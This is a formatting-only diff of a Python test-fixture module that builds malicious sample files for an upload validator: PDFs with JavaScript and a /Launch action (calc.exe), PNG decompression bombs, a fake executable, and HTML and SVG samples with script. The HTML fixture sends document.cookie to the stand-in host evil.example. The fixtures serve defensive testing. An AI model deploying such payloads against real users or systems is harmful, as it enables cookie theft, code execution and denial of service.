@@ -63,8 +63,10 @@ def make_big_pdf(size: int, *, chunk: int = 1 << 20):
     offsets.append(out_offset)
     yield emit(b"4 0 obj\n<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream\nendobj\n")
     offsets.append(out_offset)
-    yield emit(b"5 0 obj\n<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
-               b"/BitsPerComponent 8 /Length %d >>\nstream\n" % (width, height, image_len))
+    yield emit(
+        b"5 0 obj\n<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
+        b"/BitsPerComponent 8 /Length %d >>\nstream\n" % (width, height, image_len)
+    )
     remaining = image_len
     while remaining:
         n = min(chunk, remaining)
@@ -96,18 +98,22 @@ def make_pdf_with_js(script: str = "app.alert('hi');", *, where: str = "openacti
     from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
 
     writer = _writer_from(make_pdf())
-    action = DictionaryObject({
-        NameObject("/Type"): NameObject("/Action"),
-        NameObject("/S"): NameObject("/JavaScript"),
-        NameObject("/JS"): TextStringObject(script),
-    })
+    action = DictionaryObject(
+        {
+            NameObject("/Type"): NameObject("/Action"),
+            NameObject("/S"): NameObject("/JavaScript"),
+            NameObject("/JS"): TextStringObject(script),
+        }
+    )
     if where == "openaction":
         writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
     elif where == "names":
-        tree = DictionaryObject({NameObject("/Names"): ArrayObject(
-            [TextStringObject("init"), writer._add_object(action)])})
+        tree = DictionaryObject(
+            {NameObject("/Names"): ArrayObject([TextStringObject("init"), writer._add_object(action)])}
+        )
         writer._root_object[NameObject("/Names")] = DictionaryObject(
-            {NameObject("/JavaScript"): writer._add_object(tree)})
+            {NameObject("/JavaScript"): writer._add_object(tree)}
+        )
     elif where == "page_aa":
         page = writer.pages[0]
         page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): writer._add_object(action)})
@@ -121,10 +127,14 @@ def make_pdf_with_launch(command: str = "calc.exe") -> bytes:
     from pypdf.generic import DictionaryObject, NameObject, TextStringObject
 
     writer = _writer_from(make_pdf())
-    writer._root_object[NameObject("/OpenAction")] = writer._add_object(DictionaryObject({
-        NameObject("/S"): NameObject("/Launch"),
-        NameObject("/F"): TextStringObject(command),
-    }))
+    writer._root_object[NameObject("/OpenAction")] = writer._add_object(
+        DictionaryObject(
+            {
+                NameObject("/S"): NameObject("/Launch"),
+                NameObject("/F"): TextStringObject(command),
+            }
+        )
+    )
     return _written(writer)
 
 
@@ -176,16 +186,27 @@ def make_pdf_with_action(action: dict, *, where: str = "link", pages: int = 2) -
         page[NameObject("/Annots")] = ArrayObject([writer._add_object(annot)])
 
     if where == "link":
-        annotate(DictionaryObject({NameObject("/Subtype"): NameObject("/Link"),
-                                   NameObject("/A"): obj}))
+        annotate(DictionaryObject({NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): obj}))
     elif where == "annot_aa":
-        annotate(DictionaryObject({NameObject("/Subtype"): NameObject("/Link"),
-                                   NameObject("/AA"): DictionaryObject({NameObject("/E"): obj})}))
+        annotate(
+            DictionaryObject(
+                {
+                    NameObject("/Subtype"): NameObject("/Link"),
+                    NameObject("/AA"): DictionaryObject({NameObject("/E"): obj}),
+                }
+            )
+        )
     elif where == "widget":
-        annotate(DictionaryObject({NameObject("/Subtype"): NameObject("/Widget"),
-                                   NameObject("/FT"): NameObject("/Btn"),
-                                   NameObject("/T"): TextStringObject("button"),
-                                   NameObject("/A"): obj}))
+        annotate(
+            DictionaryObject(
+                {
+                    NameObject("/Subtype"): NameObject("/Widget"),
+                    NameObject("/FT"): NameObject("/Btn"),
+                    NameObject("/T"): TextStringObject("button"),
+                    NameObject("/A"): obj,
+                }
+            )
+        )
     elif where == "open":
         writer._root_object[NameObject("/OpenAction")] = obj
     elif where == "doc_aa":
@@ -229,17 +250,21 @@ def make_pdf_with_file_annotation() -> bytes:
     embedded = DecodedStreamObject()
     embedded.set_data(b"secret payload")
     embedded[NameObject("/Type")] = NameObject("/EmbeddedFile")
-    filespec = DictionaryObject({
-        NameObject("/Type"): NameObject("/Filespec"),
-        NameObject("/F"): TextStringObject("note.txt"),
-        NameObject("/EF"): DictionaryObject({NameObject("/F"): writer._add_object(embedded)}),
-    })
-    annot = DictionaryObject({
-        NameObject("/Type"): NameObject("/Annot"),
-        NameObject("/Subtype"): NameObject("/FileAttachment"),
-        NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (50, 50, 70, 70)]),
-        NameObject("/FS"): writer._add_object(filespec),
-    })
+    filespec = DictionaryObject(
+        {
+            NameObject("/Type"): NameObject("/Filespec"),
+            NameObject("/F"): TextStringObject("note.txt"),
+            NameObject("/EF"): DictionaryObject({NameObject("/F"): writer._add_object(embedded)}),
+        }
+    )
+    annot = DictionaryObject(
+        {
+            NameObject("/Type"): NameObject("/Annot"),
+            NameObject("/Subtype"): NameObject("/FileAttachment"),
+            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (50, 50, 70, 70)]),
+            NameObject("/FS"): writer._add_object(filespec),
+        }
+    )
     writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annot)])
     return _written(writer)
 
@@ -306,8 +331,12 @@ def png_bomb_bytes(width: int = 50_000, height: int = 50_000) -> bytes:
     tiny IDAT and IEND. Decoding it fully would need gigabytes; it must be refused unread."""
     ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)  # 8-bit RGB
     idat = zlib.compress(b"\x00" * 1024)
-    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", idat) + \
-        _png_chunk(b"IEND", b"")
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + _png_chunk(b"IHDR", ihdr)
+        + _png_chunk(b"IDAT", idat)
+        + _png_chunk(b"IEND", b"")
+    )
 
 
 def png_deep_bytes(width: int, height: int, *, bit_depth: int = 16, color_type: int = 6) -> bytes:
@@ -319,21 +348,29 @@ def png_deep_bytes(width: int, height: int, *, bit_depth: int = 16, color_type: 
     packer = zlib.compressobj(9)
     idat = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
     ihdr = struct.pack(">IIBBBBB", width, height, bit_depth, color_type, 0, 0, 0)
-    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", idat) + \
-        _png_chunk(b"IEND", b"")
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + _png_chunk(b"IHDR", ihdr)
+        + _png_chunk(b"IDAT", idat)
+        + _png_chunk(b"IEND", b"")
+    )
 
 
 # -- things that are not documents ---------------------------------------------------------------
 def html_bytes() -> bytes:
-    return (b"<!DOCTYPE html>\n<html><head><title>Invoice</title></head>"
-            b"<body><script>document.location='https://evil.example/?c='+document.cookie</script>"
-            b"</body></html>\n")
+    return (
+        b"<!DOCTYPE html>\n<html><head><title>Invoice</title></head>"
+        b"<body><script>document.location='https://evil.example/?c='+document.cookie</script>"
+        b"</body></html>\n"
+    )
 
 
 def svg_bytes() -> bytes:
-    return (b'<?xml version="1.0" encoding="UTF-8"?>\n'
-            b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
-            b'<script>alert(document.domain)</script><rect width="10" height="10"/></svg>\n')
+    return (
+        b'<?xml version="1.0" encoding="UTF-8"?>\n'
+        b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
+        b'<script>alert(document.domain)</script><rect width="10" height="10"/></svg>\n'
+    )
 
 
 def zip_bytes() -> bytes:
@@ -350,7 +387,7 @@ def exe_bytes() -> bytes:
     header[0:2] = b"MZ"
     header[0x3C:0x40] = struct.pack("<I", 0x80)
     stub = b"This program cannot be run in DOS mode.\r\r\n$"
-    header[0x40:0x40 + len(stub)] = stub
+    header[0x40 : 0x40 + len(stub)] = stub
     return bytes(header) + b"PE\x00\x00" + b"\x4c\x01" + bytes(256)
 
 
@@ -362,15 +399,25 @@ def mp4_bytes() -> bytes:
 
 def webm_bytes() -> bytes:
     """A WebM start: an EBML header whose DocType is "webm", then an empty Segment."""
+
     def element(ident: bytes, payload: bytes) -> bytes:
         return ident + bytes([0x80 | len(payload)]) + payload
 
-    header = (element(b"\x42\x86", b"\x01") + element(b"\x42\xf7", b"\x01")
-              + element(b"\x42\xf2", b"\x04") + element(b"\x42\xf3", b"\x08")
-              + element(b"\x42\x82", b"webm") + element(b"\x42\x87", b"\x04")
-              + element(b"\x42\x85", b"\x02"))
-    return b"\x1a\x45\xdf\xa3" + bytes([0x80 | len(header)]) + header + \
-        b"\x18\x53\x80\x67\x01\x00\x00\x00\x00\x00\x00\x00"
+    header = (
+        element(b"\x42\x86", b"\x01")
+        + element(b"\x42\xf7", b"\x01")
+        + element(b"\x42\xf2", b"\x04")
+        + element(b"\x42\xf3", b"\x08")
+        + element(b"\x42\x82", b"webm")
+        + element(b"\x42\x87", b"\x04")
+        + element(b"\x42\x85", b"\x02")
+    )
+    return (
+        b"\x1a\x45\xdf\xa3"
+        + bytes([0x80 | len(header)])
+        + header
+        + b"\x18\x53\x80\x67\x01\x00\x00\x00\x00\x00\x00\x00"
+    )
 
 
 def vtt_bytes(bom: bool = False) -> bytes:
@@ -379,8 +426,11 @@ def vtt_bytes(bom: bool = False) -> bytes:
 
 
 # -- wrapping ------------------------------------------------------------------------------------
-def as_upload(data: bytes, filename: str = "document.pdf",
-              content_type: str = "application/octet-stream", name: str = "file") -> FileStorage:
+def as_upload(
+    data: bytes,
+    filename: str = "document.pdf",
+    content_type: str = "application/octet-stream",
+    name: str = "file",
+) -> FileStorage:
     """Bytes as the FileStorage a multipart form would give the view."""
-    return FileStorage(stream=io.BytesIO(data), filename=filename, name=name,
-                       content_type=content_type)
+    return FileStorage(stream=io.BytesIO(data), filename=filename, name=name, content_type=content_type)
